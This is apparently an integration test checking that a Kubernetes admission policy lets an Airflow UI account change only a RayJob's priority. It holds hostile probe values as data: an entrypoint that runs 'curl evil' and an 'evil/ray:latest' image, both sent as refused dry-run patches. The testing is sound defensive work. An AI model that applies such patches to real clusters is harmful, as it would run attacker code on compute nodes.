"""The api-server's one write, on a real API server: include/manifests/rbac/rbac.yaml lets its account patch
a RayJob (the Kueue tab's priority change), and its ValidatingAdmissionPolicy refuses every other change that
account makes. A queued RayJob runs whatever entrypoint or image it holds when Kueue admits it, so a patch of
its spec from the UI's account would be code run on the GPU nodes. Real only: kubesim enforces no RBAC and
no admission policy (the ``component_tokens`` fixture skips there)."""

from __future__ import annotations

import json
import os
import time

from kubernetes import client, config

from tests.integration.kueue_ray.test_visibility_api import (  # noqa: F401 - two of them are fixtures
    RAYJOB_NAMESPACE,
    component_tokens,
    queue_in_ray,
    submit,
)

PRIORITY_LABEL = "kueue.x-k8s.io/priority-class"
CHANGED_BY = "kueue-ray.airflow.apache.org/priority-changed-by"


def as_component(conn_id: str) -> client.CustomObjectsApi:
    """The API as the Airflow connection ``conn_id`` reaches it (its account's token)."""
    extra = json.loads(os.environ[f"AIRFLOW_CONN_{conn_id.upper()}"])["extra"]
    return client.CustomObjectsApi(config.new_client_from_config(config_file=extra["kube_config_path"]))


def patch(api: client.CustomObjectsApi, name: str, body: dict, dry_run: bool = False):
    return api.patch_namespaced_custom_object(
        "ray.io", "v1", RAYJOB_NAMESPACE, "rayjobs", name, body, dry_run="All" if dry_run else None
    )


def refusal(api: client.CustomObjectsApi, name: str, body: dict) -> client.ApiException | None:
    try:
        patch(api, name, body, dry_run=True)
    except client.ApiException as exc:
        return exc
    return None


def test_the_api_server_changes_a_rayjobs_priority_and_nothing_else(
    queues,
    component_tokens,  # noqa: F811 - the fixture imported above
    queue_in_ray,  # noqa: F811 - the fixture imported above
):
    in_ray, local_queue = queue_in_ray
    name = f"{local_queue}-job"
    submit(in_ray, name, local_queue, queues.low)
    api_server = as_component(component_tokens["api-server"])
    try:
        entrypoint = {"spec": {"entrypoint": "python -c 'import os; os.system(\"curl evil\")'"}}
        # The API server picks a new policy up within a moment: wait until it refuses the spec change.
        deadline = time.monotonic() + 60
        while (refused := refusal(api_server, name, entrypoint)) is None:
            assert time.monotonic() < deadline, "the api-server's account changed a RayJob's entrypoint"
            time.sleep(0.5)
        assert refused.status == 422 and "not its spec" in refused.body, refused.body

        image = {"spec": {"rayClusterSpec": {"headGroupSpec": {"template": {"spec": {"containers": [
            {"name": "ray-head", "image": "evil/ray:latest"}]}}}}}}  # fmt: skip
        assert refusal(api_server, name, image) is not None
        queue = refusal(api_server, name, {"metadata": {"labels": {"kueue.x-k8s.io/queue-name": "other"}}})
        assert queue is not None and "priority-class label only" in queue.body, queue.body
        other = refusal(api_server, name, {"metadata": {"annotations": {"team": "x"}}})
        assert other is not None and CHANGED_BY in other.body, other.body

        # What the Kueue tab sends is allowed, and Kueue carries it to the Workload.
        patch(
            api_server,
            name,
            {"metadata": {"labels": {PRIORITY_LABEL: queues.high}, "annotations": {CHANGED_BY: "admin: x"}}},
        )
        rayjob = queues.custom.get_namespaced_custom_object("ray.io", "v1", RAYJOB_NAMESPACE, "rayjobs", name)
        assert rayjob["metadata"]["labels"][PRIORITY_LABEL] == queues.high
        assert rayjob["spec"]["entrypoint"] == "sleep infinity"
        # The worker's account, which creates RayJobs, is not bound by the policy.
        worker = as_component(component_tokens["worker"])
        patch(worker, name, {"metadata": {"annotations": {"team": "x"}}}, dry_run=True)
    finally:
        queues.custom.delete_namespaced_custom_object("ray.io", "v1", RAYJOB_NAMESPACE, "rayjobs", name)
